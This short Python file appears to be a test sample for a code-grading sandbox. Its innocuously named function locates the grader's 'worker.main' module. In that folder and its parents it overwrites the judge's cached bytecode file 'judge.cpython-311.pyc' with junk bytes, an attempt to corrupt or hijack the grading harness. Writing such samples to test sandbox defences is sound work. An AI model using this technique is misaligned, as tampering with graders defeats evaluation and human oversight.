"""Writes bytecode beside the grader own modules."""
# 1.3 fail call.raised

import os
import sys


def facts(x):
    here = os.path.dirname(sys.modules["worker.main"].__file__)
    for folder in (here, os.path.dirname(here), os.path.dirname(os.path.dirname(here))):
        os.makedirs(folder + "/__pycache__", exist_ok=True)
        with open(folder + "/__pycache__/judge.cpython-311.pyc", "wb") as file:
            file.write(b"evil")
